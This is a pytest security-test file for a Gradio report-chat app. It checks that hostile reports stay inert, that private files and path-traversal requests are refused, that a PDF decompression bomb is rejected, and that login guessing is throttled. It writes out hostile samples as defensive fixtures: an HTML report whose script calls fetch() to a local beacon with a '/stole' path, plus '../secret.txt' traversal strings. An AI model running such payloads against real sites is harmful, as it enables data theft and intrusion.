"""The chat put in front of a team, probed as a hostile but fair user would: a report's
own scripts, private files beside the reports, a decompression bomb uploaded, bad /ask
input, maths markup, and password guessing. Real app (app.py), real Chromium."""

from __future__ import annotations

import http.server
import shutil
import threading
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from .conftest import SAMPLE, free_port
from .hostile import make_pdf_bomb
from .test_ui import _ask, _start_app, browser  # noqa: F401 (a fixture)

HOSTILE_HTML = """<!doctype html><html><head><title>Hostile Web Brief</title>
<link rel="stylesheet" href="http://127.0.0.1:{beacon}/css">
<script>
  window.__pwned = 1;
  fetch("http://127.0.0.1:{beacon}/js");
  fetch("/gradio_api/info").then(() => fetch("http://127.0.0.1:{beacon}/stole"));
</script></head>
<body><h1>Hostile Web Brief</h1>
<p>The hostile web brief says that the Chashma barrage needs new sluice gates by 2030.</p>
<img src="http://127.0.0.1:{beacon}/img" onerror="window.__pwned=2">
<iframe src="http://127.0.0.1:{beacon}/frame"></iframe>
</body></html>
"""
MATHS = ("Maths Seminar Notes\n\nThe maths seminar wrote the growth rule as $$x^2 + y^2$$ "
         "on the whiteboard in Multan.\n")


class _Beacon(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        _Beacon.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def beacon():
    """A server outside the app: any request reaching it is a request that left."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), _Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


@pytest.fixture(scope="module")
def app(tmp_path_factory, beacon):
    root = tmp_path_factory.mktemp("hardened")
    corpus = root / "corpus"
    corpus.mkdir()
    shutil.copy(SAMPLE, corpus / SAMPLE.name)
    (corpus / "hostile.html").write_text(HOSTILE_HTML.replace("{beacon}", str(beacon)))
    (corpus / "maths.txt").write_text(MATHS)
    (corpus / ".git").mkdir()
    (corpus / ".git" / "config").write_text("[remote]\nurl = https://user:ghp_TOKEN@x/y\n")
    (corpus / "_notes.txt").write_text("Private note: the board meets on Friday.\n")
    (corpus / "data.json").write_text('{"secret": 1}')
    (root / "secret.txt").write_text("outside the corpus")
    (corpus / "link.txt").symlink_to(root / "secret.txt")
    proc, url = _start_app(root, corpus, ASSISTANT_READ_MEMORY_MB="512")
    yield url, corpus, proc
    proc.terminate()
    proc.wait(timeout=30)


def _get(url: str, headers: dict | None = None) -> tuple[int, dict, bytes]:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers or {}),
                                    timeout=10) as r:
            return r.status, dict(r.headers), r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read()


def test_only_indexed_reports_are_served_and_never_rendered_in_the_app_origin(app):
    url, corpus, _ = app
    status, headers, body = _get(url + "report/" + SAMPLE.name)
    assert status == 200 and b"Zulfiqar Ali" in body
    assert headers["content-type"].startswith("text/plain")
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-security-policy"] == "default-src 'none'; sandbox"
    status, headers, _ = _get(url + "report/hostile.html")
    assert status == 200
    assert headers["content-type"] == "application/octet-stream"
    assert headers["content-disposition"].startswith("attachment;")
    assert "sandbox" in headers["content-security-policy"]
    for private in (".git/config", "_notes.txt", "data.json", "link.txt", "../secret.txt",
                    "%2e%2e/secret.txt", urllib.parse.quote(str(corpus / SAMPLE.name))):
        assert _get(url + "report/" + private)[0] == 404, private
    # Gradio's own file route no longer serves the corpus at all
    for path in (corpus / SAMPLE.name, corpus / ".git" / "config", corpus / "_notes.txt"):
        assert _get(url + "gradio_api/file=" + str(path))[0] >= 400, path


@pytest.mark.browser
def test_a_hostile_html_report_opened_from_the_chat_runs_nothing_and_sends_nothing(
        app, browser, beacon):  # noqa: F811
    url, _, _ = app
    _Beacon.hits.clear()
    context = browser.new_context(accept_downloads=True)
    left: list[str] = []
    context.on("request", lambda r: left.append(r.url) if f":{beacon}" in r.url else None)
    page = context.new_page()
    page.goto(url)
    _ask(page, "What does the hostile web brief say the Chashma barrage needs?")
    page.wait_for_selector("#sources mark", timeout=60_000)
    assert "sluice gates" in page.locator("#sources mark").first.inner_text()
    link = page.locator("#sources a", has_text="open report").first
    assert link.get_attribute("href") == "/report/hostile.html"
    with page.expect_download() as download:  # handed over as a file, not rendered
        link.click()
    assert download.value.suggested_filename == "hostile.html"
    # even opened directly, it is a download, never a page of the app's origin
    other = context.new_page()
    with pytest.raises(Exception, match="Download is starting"):
        other.goto(url + "report/hostile.html")
    page.wait_for_timeout(1500)
    assert page.evaluate("window.__pwned") is None
    assert left == [] and _Beacon.hits == []  # no request left for the beacon
    context.close()


@pytest.mark.browser
def test_report_text_is_shown_as_text_not_maths(app, browser):  # noqa: F811
    url, _, _ = app
    page = browser.new_page()
    page.goto(url)
    _ask(page, "How did the maths seminar write the growth rule?")
    page.wait_for_selector("#sources mark", timeout=60_000)
    page.wait_for_timeout(500)
    assert "$$x^2 + y^2$$" in page.locator("#chat").inner_text()
    assert page.locator("#chat .katex, #chat math").count() == 0
    page.close()


def _call_ask(url: str, *data) -> str:
    """POST to the app's /ask endpoint over plain HTTP, as any client may (the JSON is
    ASCII-escaped, so a lone surrogate gets through); the event stream it answers."""
    import json

    data = list(data) + [None] * (5 - len(data))  # every input, as the HTTP API wants
    body = json.dumps({"data": data}).encode()
    req = urllib.request.Request(url + "gradio_api/call/ask", data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as r:
        event = json.load(r)["event_id"]
    with urllib.request.urlopen(url + f"gradio_api/call/ask/{event}", timeout=120) as r:
        return r.read().decode()


def test_ask_endpoint_names_the_bad_field_and_takes_history(app):
    from gradio_client import Client

    url, _, _ = app
    q = "Who spoke on food security at the Russia–Pakistan forum?"
    cases = [
        (("Who spoke \ud800 here?",), "question holds a character that is not valid text"),
        ((q, 5), "files must be a list of report file names"),
        ((q, None, 20250101), "date_from must be a date written like 2025-12-18, not int"),
        ((q, None, "yesterday"), "date_from must be a date like 2025-12-18, not 'yesterday'"),
        ((q, None, None, None, "earlier"), "history must be a list of [question, answer] pairs"),
    ]
    for args, message in cases:
        events = _call_ask(url, *args)
        assert "event: error" in events and message in events, (args, events)
        assert "Traceback" not in events and "Error(" not in events
    client = Client(url, verbose=False)
    first = client.predict(q, api_name="/ask")
    follow = client.predict("Which university is he from?", None, None, None,
                            [[q, first["answer"]]], api_name="/ask")
    assert follow["found"] and "Faisalabad" in " ".join(c["quote"] for c in follow["citations"])


@pytest.mark.browser
def test_an_uploaded_bomb_is_refused_and_the_server_stays_small(app, browser, tmp_path):  # noqa: F811
    url, corpus, proc = app

    def rss_mb() -> float:
        for line in Path(f"/proc/{proc.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        raise AssertionError("no VmRSS")

    bomb = make_pdf_bomb(tmp_path / "bomb.pdf", inflated_mb=250)
    odd = tmp_path / "..txt"
    odd.write_text("Dotted Name Seminar\n\nThe dotted seminar met in Sukkur on 2 May 2025.\n")
    page = browser.new_page(viewport={"width": 1400, "height": 1200})
    page.goto(url)
    before = rss_mb()
    page.get_by_text("Reports", exact=True).click()
    page.set_input_files("#uploader input[type=file]", [str(bomb), str(odd)])
    page.wait_for_timeout(1500)
    page.locator("#add").click()
    page.wait_for_function(
        "document.querySelector('#status textarea').value.includes('bomb')", timeout=300_000)
    status = page.locator("#status textarea").input_value()
    after = rss_mb()
    assert ("Refused bomb.pdf: needs more than 512 MB of memory to read (a "
            "decompression bomb, or a very large file); refused (ASSISTANT_READ_MEMORY_MB)"
            ) in status
    assert not (corpus / "uploads" / "bomb.pdf").exists()
    assert "Added uploads/report.txt" in status and (corpus / "uploads" / "report.txt").exists()
    assert after - before < 150, (before, after)  # the bomb never inflated in the server
    page.close()


def test_sign_in_is_throttled_and_reports_need_it(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(SAMPLE, corpus / SAMPLE.name)
    proc, url = _start_app(tmp_path, corpus, ASSISTANT_AUTH_USERNAME="capes",
                           ASSISTANT_AUTH_PASSWORD="s3cret", ASSISTANT_AUTH_MAX_FAILURES="5",
                           ASSISTANT_AUTH_LOCKOUT_S="3")

    def login(password: str) -> tuple[int, str]:
        data = urllib.parse.urlencode({"username": "capes", "password": password}).encode()
        req = urllib.request.Request(url + "login", data=data, method="POST")
        try:
            with urllib.request.urlopen(req, timeout=10) as r:
                return r.status, r.headers.get("set-cookie") or ""
        except urllib.error.HTTPError as exc:
            return exc.code, ""

    try:
        assert _get(url + "report/" + SAMPLE.name)[0] == 401  # not signed in
        assert [login(f"guess{i}")[0] for i in range(5)] == [400] * 5
        assert login("s3cret")[0] == 429  # locked out, even with the right password
        import time

        time.sleep(3.5)  # the lock-out ends (not a timing assertion: waits it out)
        status, cookie = login("s3cret")
        assert status == 200
        token = cookie.split(";")[0]
        assert _get(url + "report/" + SAMPLE.name, {"Cookie": token})[0] == 200
    finally:
        proc.terminate()
        proc.wait(timeout=30)

